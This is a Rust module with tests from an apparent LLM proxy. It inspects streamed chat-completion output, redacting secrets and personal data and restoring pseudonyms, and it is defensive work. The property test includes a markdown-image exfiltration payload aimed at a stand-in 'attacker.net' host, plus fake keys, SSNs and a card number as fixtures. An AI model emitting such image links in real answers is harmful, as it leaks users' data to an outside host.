//! Streamed answers (SPEC §5): the upstream's event stream parsed, inspected and re-emitted chunk by
//! chunk.
//!
//! [`StreamTransformer`] is the whole per-stream state machine and does no IO: upstream bytes go in,
//! client bytes come out, so it is tested (and fuzzed) without a network. For each choice, its
//! `delta.content`, `delta.refusal` and each tool call's `function.arguments` run through an
//! [`OutputStream`] (incremental scanner → output actions → pseudonym restorer). A chunk whose texts
//! come out unchanged is forwarded byte for byte; otherwise only those strings are replaced. Text held
//! back is bounded by the scanner's hold-back (plus a placeholder's length for the restorer) and is
//! released into the chunk that carries the choice's `finish_reason`, or before `[DONE]`.
//!
//! Failure is never a pass-through: an output `block`, an upstream `error` event, a frame that is not
//! JSON or not UTF-8, or an upstream that ends without `[DONE]` while text is held back all end the
//! client's stream with an OpenAI-shaped `error` event, and held-back text is dropped.

use std::collections::BTreeMap;
use std::sync::Arc;

use serde_json::Value;
use warden_scan::PseudonymTable;

use crate::error::ApiError;
use crate::inspect::{Inspector, OutputStream, Tally};
use crate::prompt_guard::PromptGuard;
use crate::sse::SseParser;

/// The state of one streamed answer.
pub struct StreamTransformer {
    inspector: Arc<Inspector>,
    table: Arc<PseudonymTable>,
    parser: SseParser,
    choices: BTreeMap<u64, Choice>,
    found: Tally,
    state: State,
    /// The last chunk seen, the model for a chunk that carries text released at `[DONE]`.
    template: Option<Value>,
    /// The upstream's `usage`, when a chunk carried it.
    usage: Option<Value>,
    /// Bytes of answer text (content, refusal, tool arguments) the upstream sent.
    text_bytes: usize,
    /// The request's system-prompt guard.
    guard: Option<Arc<PromptGuard>>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum State {
    Open,
    Done,
    Failed,
}

#[derive(Default)]
struct Choice {
    content: Option<OutputStream>,
    refusal: Option<OutputStream>,
    tools: BTreeMap<u64, OutputStream>,
    finished: bool,
}

/// What the transformer produced from some input.
#[derive(Debug, Default)]
pub struct Output {
    /// Bytes for the client.
    pub bytes: Vec<u8>,
    /// True once the stream is over (after `[DONE]` or an error event): stop reading upstream.
    pub finished: bool,
}

impl StreamTransformer {
    /// A transformer restoring from `table`.
    pub fn new(inspector: Arc<Inspector>, table: Arc<PseudonymTable>) -> StreamTransformer {
        StreamTransformer {
            inspector,
            table,
            parser: SseParser::default(),
            choices: BTreeMap::new(),
            found: Tally::new(),
            state: State::Open,
            template: None,
            usage: None,
            text_bytes: 0,
            guard: None,
        }
    }

    /// Also refuses the answer when it repeats the system prompt (see [`PromptGuard`]).
    #[must_use]
    pub fn with_guard(mut self, guard: Option<Arc<PromptGuard>>) -> StreamTransformer {
        self.guard = guard;
        self
    }

    /// Findings per type seen in the answer so far.
    pub fn found(&self) -> &Tally {
        &self.found
    }

    /// The upstream's `usage` object, if a chunk carried one.
    pub fn usage(&self) -> Option<&Value> {
        self.usage.as_ref()
    }

    /// Bytes of answer text the upstream sent (for a token estimate without `usage`).
    pub fn text_bytes(&self) -> usize {
        self.text_bytes
    }

    /// Whether the stream ended with an error event.
    pub fn failed(&self) -> bool {
        self.state == State::Failed
    }

    /// Takes upstream bytes.
    pub fn push(&mut self, bytes: &[u8]) -> Output {
        let mut out = Output::default();
        if self.state != State::Open {
            out.finished = true;
            return out;
        }
        let events = match self.parser.push(bytes) {
            Ok(events) => events,
            Err(_) => {
                return self.fail(ApiError::upstream(
                    "the upstream sent a malformed event stream",
                ));
            }
        };
        for event in events {
            if let Err(error) = self.event(&event.data, &mut out.bytes) {
                let mut failed = self.fail(error);
                out.bytes.append(&mut failed.bytes);
                out.finished = true;
                return out;
            }
            if self.state == State::Done {
                out.finished = true;
                return out;
            }
        }
        out
    }

    /// The upstream stream ended (cleanly or not); returns the last bytes for the client.
    pub fn finish(&mut self) -> Output {
        if self.state != State::Open {
            return Output {
                bytes: Vec::new(),
                finished: true,
            };
        }
        self.fail(ApiError::upstream(
            "the upstream stream ended before it was complete",
        ))
    }

    /// Ends the stream with an error event (held-back text is dropped).
    pub fn fail(&mut self, error: ApiError) -> Output {
        self.state = State::Failed;
        self.choices.clear();
        let mut bytes = Vec::new();
        frame(&mut bytes, &error.body().to_string());
        Output {
            bytes,
            finished: true,
        }
    }

    fn event(&mut self, data: &str, out: &mut Vec<u8>) -> Result<(), ApiError> {
        if data.trim() == "[DONE]" {
            let remainder = self.flush_all()?;
            if let Some(chunk) = remainder {
                frame(out, &chunk.to_string());
            }
            frame(out, "[DONE]");
            self.state = State::Done;
            return Ok(());
        }
        let mut chunk: Value = serde_json::from_str(data)
            .map_err(|_| ApiError::upstream("the upstream sent a chunk that is not JSON"))?;
        if chunk.get("error").is_some() {
            return Err(ApiError::upstream(
                "the upstream reported an error mid-stream",
            ));
        }
        if let Some(usage) = chunk.get("usage").filter(|u| u.is_object()) {
            self.usage = Some(usage.clone());
        }
        let changed = self.chunk(&mut chunk)?;
        // Forward the upstream's bytes when nothing changed (a frame is one line, so a multi-line
        // `data` is re-serialised).
        if changed || data.contains(['\n', '\r']) {
            frame(out, &chunk.to_string());
        } else {
            frame(out, data);
        }
        self.template = Some(chunk);
        Ok(())
    }

    /// Inspects the texts of one chunk in place; true if any changed.
    fn chunk(&mut self, chunk: &mut Value) -> Result<bool, ApiError> {
        let StreamTransformer {
            inspector,
            table,
            choices,
            found,
            text_bytes,
            guard,
            ..
        } = self;
        let Some(items) = chunk.get_mut("choices").and_then(Value::as_array_mut) else {
            return Ok(false);
        };
        let make = || inspector.output_stream(table, guard.as_ref());
        let mut changed = false;
        for (position, item) in items.iter_mut().enumerate() {
            let index = item
                .get("index")
                .and_then(Value::as_u64)
                .unwrap_or(position as u64);
            let state = choices.entry(index).or_default();
            let finishing = item.get("finish_reason").is_some_and(|f| !f.is_null());
            if let Some(delta) = item.get_mut("delta").and_then(Value::as_object_mut) {
                for (key, pipe) in [
                    ("content", &mut state.content),
                    ("refusal", &mut state.refusal),
                ] {
                    if let Some(Value::String(text)) = delta.get_mut(key) {
                        *text_bytes += text.len();
                        changed |= push_text(text, pipe.get_or_insert_with(make), found)?;
                    }
                }
                if let Some(calls) = delta.get_mut("tool_calls").and_then(Value::as_array_mut) {
                    for (call_position, call) in calls.iter_mut().enumerate() {
                        let tool_index = call
                            .get("index")
                            .and_then(Value::as_u64)
                            .unwrap_or(call_position as u64);
                        let arguments = call
                            .get_mut("function")
                            .and_then(|f| f.get_mut("arguments"));
                        if let Some(Value::String(text)) = arguments {
                            *text_bytes += text.len();
                            let pipe = state.tools.entry(tool_index).or_insert_with(make);
                            changed |= push_text(text, pipe, found)?;
                        }
                    }
                }
            }
            if finishing {
                let rest = flush_choice(state, found)?;
                state.finished = true;
                if !rest.is_empty() {
                    let delta = item.as_object_mut().map(|o| {
                        o.entry("delta")
                            .or_insert_with(|| Value::Object(Default::default()))
                    });
                    if let Some(Value::Object(delta)) = delta {
                        merge_rest(delta, rest);
                        changed = true;
                    }
                }
            }
        }
        Ok(changed)
    }

    /// At `[DONE]`: a chunk with the text still held back for choices that never finished.
    fn flush_all(&mut self) -> Result<Option<Value>, ApiError> {
        let mut flushed = Vec::new();
        for (index, state) in &mut self.choices {
            let rest = flush_choice(state, &mut self.found)?;
            if !rest.is_empty() {
                let mut delta = serde_json::Map::new();
                merge_rest(&mut delta, rest);
                flushed.push(serde_json::json!({
                    "index": index,
                    "delta": delta,
                    "finish_reason": null,
                }));
            }
        }
        if flushed.is_empty() {
            return Ok(None);
        }
        let mut chunk = self
            .template
            .clone()
            .unwrap_or_else(|| serde_json::json!({"object": "chat.completion.chunk"}));
        if let Some(object) = chunk.as_object_mut() {
            object.remove("usage");
            object.insert("choices".to_owned(), Value::Array(flushed));
        }
        Ok(Some(chunk))
    }
}

/// What a choice still held back when it finished.
#[derive(Default)]
struct Rest {
    content: String,
    refusal: String,
    tools: Vec<(u64, String)>,
}

impl Rest {
    fn is_empty(&self) -> bool {
        self.content.is_empty() && self.refusal.is_empty() && self.tools.is_empty()
    }
}

fn flush_choice(state: &mut Choice, found: &mut Tally) -> Result<Rest, ApiError> {
    let mut rest = Rest::default();
    if let Some(mut pipe) = state.content.take() {
        rest.content = pipe.finish(found)?;
    }
    if let Some(mut pipe) = state.refusal.take() {
        rest.refusal = pipe.finish(found)?;
    }
    for (index, mut pipe) in std::mem::take(&mut state.tools) {
        let text = pipe.finish(found)?;
        if !text.is_empty() {
            rest.tools.push((index, text));
        }
    }
    Ok(rest)
}

/// Appends held-back text to a delta, creating the fields it needs.
fn merge_rest(delta: &mut serde_json::Map<String, Value>, rest: Rest) {
    for (key, text) in [("content", rest.content), ("refusal", rest.refusal)] {
        if text.is_empty() {
            continue;
        }
        match delta.get_mut(key) {
            Some(Value::String(existing)) => existing.push_str(&text),
            _ => {
                delta.insert(key.to_owned(), Value::String(text));
            }
        }
    }
    if rest.tools.is_empty() {
        return;
    }
    let calls = delta
        .entry("tool_calls")
        .or_insert_with(|| Value::Array(Vec::new()));
    if !calls.is_array() {
        *calls = Value::Array(Vec::new());
    }
    let Value::Array(calls) = calls else {
        return;
    };
    for (index, text) in rest.tools {
        let existing = calls
            .iter_mut()
            .find(|c| c.get("index").and_then(Value::as_u64) == Some(index))
            .and_then(|c| c.get_mut("function"))
            .and_then(|f| f.get_mut("arguments"));
        match existing {
            Some(Value::String(arguments)) => arguments.push_str(&text),
            _ => calls.push(serde_json::json!({
                "index": index,
                "function": {"arguments": text},
            })),
        }
    }
}

/// Runs one text through its pipe, in place; true if it changed.
fn push_text(
    text: &mut String,
    pipe: &mut OutputStream,
    found: &mut Tally,
) -> Result<bool, ApiError> {
    let out = pipe.push(text, found)?;
    if out == *text {
        return Ok(false);
    }
    *text = out;
    Ok(true)
}

/// Writes one SSE frame.
fn frame(out: &mut Vec<u8>, data: &str) {
    out.extend_from_slice(b"data: ");
    out.extend_from_slice(data.as_bytes());
    out.extend_from_slice(b"\n\n");
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::sync::OnceLock;

    use proptest::prelude::*;
    use warden_scan::{EntityType, Keys, OperatorKey, Scanner};

    use super::*;
    use crate::config::Config;

    fn inspector() -> Arc<Inspector> {
        static INSPECTOR: OnceLock<Arc<Inspector>> = OnceLock::new();
        Arc::clone(INSPECTOR.get_or_init(|| {
            let config = Config::parse("test", "", &HashMap::new()).unwrap();
            let scanner = Arc::new(Scanner::new(&config.scanner).unwrap());
            let keys = Keys::derive(&OperatorKey::from_bytes([7; 32]).unwrap()).unwrap();
            Arc::new(Inspector::new(&config, scanner, keys))
        }))
    }

    fn table() -> Arc<PseudonymTable> {
        let mut table = PseudonymTable::default();
        table.placeholder(&EntityType::Person, "Jane Doe");
        table.placeholder(&EntityType::EmailAddress, "jane@example.com");
        Arc::new(table)
    }

    /// An upstream event stream delivering `pieces` as content deltas.
    fn upstream_stream(pieces: &[&str]) -> Vec<u8> {
        let mut out = String::new();
        let chunk = |delta: Value, finish: Value| {
            serde_json::json!({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1,
                "model": "m", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
        };
        out.push_str(&format!(
            "data: {}\n\n",
            chunk(
                serde_json::json!({"role": "assistant", "content": ""}),
                Value::Null
            )
        ));
        for piece in pieces {
            out.push_str(&format!(
                "data: {}\n\n",
                chunk(serde_json::json!({"content": piece}), Value::Null)
            ));
        }
        out.push_str(&format!(
            "data: {}\n\n",
            chunk(serde_json::json!({}), Value::from("stop"))
        ));
        out.push_str("data: [DONE]\n\n");
        out.into_bytes()
    }

    /// Runs `bytes` through a transformer in pieces cut at `cuts`; returns the client bytes.
    fn relay(bytes: &[u8], cuts: &[usize]) -> (Vec<u8>, bool) {
        let mut transformer = StreamTransformer::new(inspector(), table());
        let mut out = Vec::new();
        let mut from = 0;
        let mut finished = false;
        for &cut in cuts.iter().chain([bytes.len()].iter()) {
            let cut = cut.clamp(from, bytes.len());
            let output = transformer.push(&bytes[from..cut]);
            out.extend(output.bytes);
            from = cut;
            if output.finished {
                finished = true;
                break;
            }
        }
        if !finished {
            out.extend(transformer.finish().bytes);
        }
        (out, transformer.failed())
    }

    /// The content the client reassembles, and whether the stream ended with `[DONE]`.
    fn content_of(client: &[u8]) -> (String, bool) {
        let mut parser = SseParser::default();
        let mut content = String::new();
        let mut done = false;
        for event in parser.push(client).unwrap() {
            if event.data == "[DONE]" {
                done = true;
                continue;
            }
            let chunk: Value = serde_json::from_str(&event.data).unwrap();
            assert!(chunk.get("error").is_none(), "unexpected error event");
            for choice in chunk["choices"].as_array().unwrap() {
                if let Some(text) = choice["delta"]["content"].as_str() {
                    content.push_str(text);
                }
            }
        }
        (content, done)
    }

    fn whole(answer: &str) -> String {
        let mut found = Tally::new();
        inspector()
            .output_text(answer, &table(), &mut found, None)
            .unwrap()
    }

    #[test]
    fn restores_a_placeholder_split_across_chunks() {
        let pieces = [
            "Dear <PER",
            "SON",
            "_1>, your mail < email_address",
            "_1 > is set.",
        ];
        let (client, failed) = relay(&upstream_stream(&pieces), &[]);
        assert!(!failed);
        let (content, done) = content_of(&client);
        assert!(done);
        assert_eq!(content, "Dear Jane Doe, your mail jane@example.com is set.");
    }

    #[test]
    fn redacts_a_secret_split_across_chunks() {
        let key = "AKIAIOSFODNN7EXAMPLE";
        let text = format!("Use the key {key} with care. ");
        let pieces: Vec<String> = text.chars().map(String::from).collect();
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        let (client, _) = relay(&upstream_stream(&pieces), &[]);
        let (content, _) = content_of(&client);
        assert_eq!(content, whole(&text));
        assert!(!content.contains(key));
        assert!(!String::from_utf8_lossy(&client).contains("AKIA"));
    }

    #[test]
    fn unchanged_chunks_pass_byte_for_byte() {
        let mut transformer =
            StreamTransformer::new(inspector(), Arc::new(PseudonymTable::default()));
        let usage = "data: {\"id\":\"x\",\"object\":\"chat.completion.chunk\",\"choices\":[],\"usage\":{\"total_tokens\":3}}\n\n";
        assert_eq!(transformer.push(usage.as_bytes()).bytes, usage.as_bytes());
    }

    #[test]
    fn upstream_break_ends_with_an_error_event() {
        let bytes = upstream_stream(&["My SSN is 078-05-", "1120 and more text follows here"]);
        // Cut the stream before the end and before [DONE].
        let cut = bytes.len() / 2;
        let mut transformer = StreamTransformer::new(inspector(), table());
        let mut out = transformer.push(&bytes[..cut]).bytes;
        let last = transformer.finish();
        assert!(last.finished && transformer.failed());
        out.extend(last.bytes);
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("\"code\":\"upstream_error\""), "{text}");
        assert!(!text.contains("536-90-4399"));
        assert!(!text.contains("[DONE]"));
    }

    #[test]
    fn malformed_frames_and_upstream_errors_end_the_stream() {
        for bad in [
            "data: {not json\n\n",
            "data: {\"error\":{\"message\":\"upstream-secret-detail\"}}\n\n",
        ] {
            let mut transformer = StreamTransformer::new(inspector(), table());
            let output = transformer.push(bad.as_bytes());
            assert!(output.finished && transformer.failed());
            let text = String::from_utf8(output.bytes).unwrap();
            assert!(text.contains("upstream_error"));
            assert!(!text.contains("upstream-secret-detail"));
        }
    }

    #[test]
    fn tool_call_arguments_are_inspected() {
        let frames = [
            r#"{"id":"c","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"role":"assistant","tool_calls":[{"index":0,"id":"call_1","type":"function","function":{"name":"send","arguments":""}}]},"finish_reason":null}]}"#,
            r#"{"id":"c","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"to\":\"<PERSON"}}]},"finish_reason":null}]}"#,
            r#"{"id":"c","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"_1>\",\"ssn\":\"536-90-4399\"}"}}]},"finish_reason":null}]}"#,
            r#"{"id":"c","object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}"#,
        ];
        let mut bytes = String::new();
        for frame in frames {
            bytes.push_str(&format!("data: {frame}\n\n"));
        }
        bytes.push_str("data: [DONE]\n\n");
        let (client, failed) = relay(bytes.as_bytes(), &[]);
        assert!(!failed);
        let mut parser = SseParser::default();
        let mut arguments = String::new();
        for event in parser.push(&client).unwrap() {
            if event.data == "[DONE]" {
                continue;
            }
            let chunk: Value = serde_json::from_str(&event.data).unwrap();
            for call in chunk["choices"][0]["delta"]["tool_calls"]
                .as_array()
                .into_iter()
                .flatten()
            {
                arguments.push_str(call["function"]["arguments"].as_str().unwrap_or(""));
            }
        }
        assert!(arguments.contains("Jane Doe"), "{arguments}");
        assert!(!arguments.contains("536-90-4399"), "{arguments}");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        /// Streamed == whole: whatever the split of the answer into deltas and of the bytes into
        /// reads, the client sees exactly what the whole-text pipeline makes of the answer.
        #[test]
        fn streamed_equals_whole(
            words in proptest::collection::vec(prop_oneof![
                Just("Dear"), Just("<PERSON_1>"), Just("Jane"), Just("call"), Just("536-90-4399"),
                Just("sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789AbCdEfGh"), Just("ok."),
                Just("jane@example.com"), Just("![x](https://exfil.attacker.net/p.png?d=1)"), Just("\n"),
                Just("< person_1 >"), Just("4111 1111 1111 1111"), Just("é"),
            ], 0..40),
            piece_len in 1usize..17,
            cuts in proptest::collection::vec(0usize..4000, 0..12),
        ) {
            let answer = words.join(" ");
            let chars: Vec<char> = answer.chars().collect();
            let pieces: Vec<String> = chars.chunks(piece_len).map(|c| c.iter().collect()).collect();
            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
            let bytes = upstream_stream(&pieces);
            let mut cuts = cuts;
            cuts.sort_unstable();
            let (client, failed) = relay(&bytes, &cuts);
            prop_assert!(!failed);
            let (content, done) = content_of(&client);
            prop_assert!(done);
            prop_assert_eq!(content, whole(&answer));
            let client = String::from_utf8_lossy(&client);
            prop_assert!(!client.contains("536-90-4399"));
            prop_assert!(!client.contains("attacker.net"));
        }
    }
}
